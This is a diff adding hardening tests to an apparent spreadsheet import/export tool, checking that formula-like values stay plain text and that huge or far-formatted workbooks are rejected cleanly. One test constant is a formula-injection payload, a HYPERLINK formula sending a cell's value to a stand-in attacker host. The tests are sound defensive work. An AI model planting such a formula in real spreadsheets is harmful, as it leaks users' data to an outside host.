@@ -407,3 +407,70 @@ def test_english_template_reads_back(home: Path) -> None:
     (home / "data" / "nis60" / "costs.csv").unlink()
     assert [w.table for w in import_workbook("nis60", path) if w.table == "costs"] == ["costs"]
     assert_same_project(load_project("nis60"), original)
+
+
+# --------------------------------------------------------------------------- hardening
+
+FORMULA = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Klicka")'
+
+
+def test_values_from_data_are_never_written_as_formulas(home: Path) -> None:
+    """A work-package id that looks like a formula is text in every sheet (no <f> in the file) and reads back as that text."""
+    spec = minimal_spec()
+    spec["work_packages"][0]["id"] = FORMULA
+    spec["goal_tree"] = [{**g, "work_package": FORMULA} if g.get("work_package") == "wp1" else g for g in spec["goal_tree"]]
+    write_project(home / "data", spec, {"costs": [{"category": "Personal", "budget": 1000, "outcome": 900,
+                                                   "work_package": FORMULA}]})
+    path = write_template("mini", home / "book.xlsx")
+    with zipfile.ZipFile(path) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
+    wb = openpyxl.load_workbook(path)
+    hits = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == FORMULA]
+    assert {c.parent.title for c in hits} >= {LISTS_SHEET, TABLE_SHEETS["costs"]}
+    assert all(c.data_type == "s" for c in hits)
+    import_workbook("mini", path)
+    assert "Personal,1000,900," + '"' + FORMULA.replace('"', '""') + '"' in (home / "data" / "mini" / "costs.csv").read_text(encoding="utf-8")
+
+
+def _formatted_far_corner(path: Path, **values: object) -> None:
+    """Format the last cell of Excel (XFD1048576) on the budget sheet of a saved template, and set ``values`` there."""
+    from openpyxl.styles import Font
+
+    wb = openpyxl.load_workbook(path)
+    ws = wb[TABLE_SHEETS["costs"]]
+    ws["XFD1048576"].font = Font(bold=True)
+    for ref, value in values.items():
+        ws[ref] = value
+    wb.save(path)
+
+
+def test_import_of_a_workbook_formatted_to_the_last_cell(home: Path) -> None:
+    """A template formatted at XFD1048576 imports (only cells holding values are read), no MemoryError."""
+    original = load_project("nis60")
+    path, _ = template(home, "nis60")
+    _formatted_far_corner(path)
+    import_workbook("nis60", path)
+    assert_same_project(load_project("nis60"), original)
+
+
+def test_import_value_beyond_the_limits_is_one_problem(home: Path) -> None:
+    """A value in row 1 048 576 of a sheet is a problem naming the sheet and the limit; nothing is written."""
+    path, _ = template(home, "nis60")
+    _formatted_far_corner(path, A1048576="x")
+    before = snapshot(home / "data" / "nis60")
+    with pytest.raises(InputError) as info:
+        import_workbook("nis60", path)
+    assert [(p.file, p.expectation) for p in info.value.problems] == [
+        (f"book.xlsx[{TABLE_SHEETS['costs']}]", "a table of at most 200 000 rows holding values")]
+    assert snapshot(home / "data" / "nis60") == before
+
+
+def test_import_workbook_over_the_size_limit(home: Path) -> None:
+    """A workbook over 50 MB is one problem naming its size, not read."""
+    big = home / "book.xlsx"
+    with open(big, "wb") as f:
+        f.truncate(60_000_000)
+    with pytest.raises(InputError) as info:
+        import_workbook("nis60", big)
+    assert [(p.field, p.got) for p in info.value.problems] == [("file", "a file of 60 000 000 bytes")]
